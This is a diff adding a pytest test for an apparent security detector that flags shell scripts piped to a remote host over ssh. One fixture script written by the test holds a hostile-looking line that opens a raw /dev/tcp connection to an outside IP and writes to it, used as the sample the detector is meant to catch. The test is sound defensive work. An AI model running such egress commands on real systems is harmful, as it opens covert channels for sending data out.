@@ -233,3 +233,38 @@ def _children(pid: int) -> list[int]:
     except OSError:
         return []
     return [int(x) for x in text.split()]
+
+
+@pytest.mark.skipif(SSH is None, reason="openssh-client is not installed")
+def test_a_script_fed_to_the_remote_shell_on_stdin(tmp_path: Path) -> None:
+    """``ssh host < dial.sh`` (the remote login shell runs it) or ``ssh host bash -s <
+    dial.sh``: a file is read and judged like a remote command; a pipe cannot be read
+    without taking ssh's bytes: reported (medium), not stopped."""
+    assert SSH is not None
+    script = tmp_path / "dial.sh"
+    script.write_text("exec 3<>/dev/tcp/203.0.113.33/3333\nprintf 'x' >&3\n")
+    honest = tmp_path / "setup.sh"
+    honest.write_text("cd /srv && make test\n")
+    cases = [(script, ["r"], "tunnels.ssh_remote_egress"),
+             (script, ["r", "bash", "-s"], "tunnels.ssh_remote_egress"),
+             (honest, ["r"], None),
+             (script, ["r", "git-upload-pack", "'repo'"], None),  # not a stdin reader
+             (None, ["r", "bash"], "tunnels.ssh_remote_stdin"),
+             (None, ["r", "uptime"], None)]
+    for source, words, rule in cases:
+        stdin = open(source) if source is not None else subprocess.PIPE  # noqa: SIM115
+        runner = subprocess.Popen([SSH, "-o", "ProxyCommand=sleep 30", *words], stdin=stdin,
+                                  stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+        try:
+            _wait_started(runner.pid)
+            found = SshExecDetector().observe(Event(
+                kind=EventKind.EXEC, session_id="s", pid=runner.pid, fields={
+                    "proc.name": "ssh", "proc.args": ["ssh", *words], "proc.cwd": "/"}))
+            assert [f.rule_id for f in found] == ([rule] if rule else []), (source, words)
+            if rule == "tunnels.ssh_remote_stdin":
+                assert found[0].severity.name == "MEDIUM"
+        finally:
+            runner.kill()
+            runner.wait()
+            if source is not None:
+                stdin.close()  # type: ignore[union-attr]
